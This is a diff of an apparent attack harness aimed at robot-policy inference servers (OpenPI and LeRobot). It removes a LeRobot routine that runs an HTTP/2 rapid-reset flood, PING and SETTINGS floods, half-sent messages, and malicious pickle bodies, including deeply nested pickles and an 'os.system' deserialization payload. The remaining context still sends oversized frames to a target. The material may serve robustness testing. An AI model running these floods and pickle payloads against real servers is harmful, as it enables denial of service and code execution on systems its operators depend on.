@@ -5,17 +5,14 @@
 import argparse
 import itertools
 import threading
-import time
 
 import hostile
-import http2
-import lerobot_calls
 from drop_in import openpi_array, pack
 
 import vla_cpp
 
 from .native import half_sent
-from .peers import ATTACKER, again_and_again, send, silent
+from .peers import again_and_again, send, silent
 from .robots import openpi_act
 
 
@@ -53,55 +50,4 @@ def openpi(target):
         lambda: send(target, head, itertools.repeat(act, 20), pause=0.05),
         lambda: send(target, head, [frame(0x82, b"\x91" * 100_000)]),
         lambda: send(target, head, [frame(0x82, bytes(1_000_000))]),
-    )
-
-
-def lerobot(target):
-    """The same at that of LeRobot, in HTTP/2: calls begun and reset, pieces that stay half, pickles that are deep or would
-    execute."""
-    target = argparse.Namespace(address=target.lerobot)
-    begin = http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0)
-    path = http2.headers("/transport.AsyncInference/GetActions")
-    resets = b"".join(
-        http2.frame(http2.HEADERS, http2.END_HEADERS, n, path) + http2.frame(http2.RST_STREAM, 0, n, bytes(4))
-        for n in range(1, 401, 2)
-    )
-    bomb = b"\x80\x04\x8c\x02os\x8c\x06system\x93."
-    bodies = [b"\x80\x04" + b"(" * 100_000, b"\x80\x04" + b"]q\x00" * 30_000, bytes(1_000_000), bomb]
-
-    def pickles():
-        with lerobot_calls.Peer(target.address, ATTACKER) as peer:
-            for body in itertools.cycle(bodies):
-                peer.setup(body)
-                time.sleep(0.05)
-
-    def halves():
-        with lerobot_calls.Peer(target.address, ATTACKER) as peer:
-            for _ in peer.half(30_000_000):
-                time.sleep(0.3)
-            peer.wait()
-
-    def half_messages():
-        with lerobot_calls.Peer(target.address, ATTACKER) as peer:
-            for _ in range(16):
-                peer.half_message(1_900_000)
-            peer.wait()
-
-    def calls():
-        with lerobot_calls.Peer(target.address, ATTACKER) as peer:
-            for _ in range(16):
-                peer.begin("SendObservations")
-            peer.wait()
-
-    again_and_again(
-        *[halves] * 20,
-        *[half_messages] * 20,
-        *[calls] * 20,
-        *[pickles] * 2,
-        *[lambda: silent(target, b"")] * 100,
-        *[lambda: silent(target, http2.PREFACE[:10])] * 100,
-        *[lambda: silent(target, begin)] * 100,
-        lambda: send(target, begin, itertools.repeat(http2.frame(http2.PING, 0, 0, bytes(8)) * 100)),
-        lambda: send(target, begin, itertools.repeat(http2.frame(http2.SETTINGS, 0, 0) * 100)),
-        lambda: send(target, begin, [resets], pause=0.05),
     )
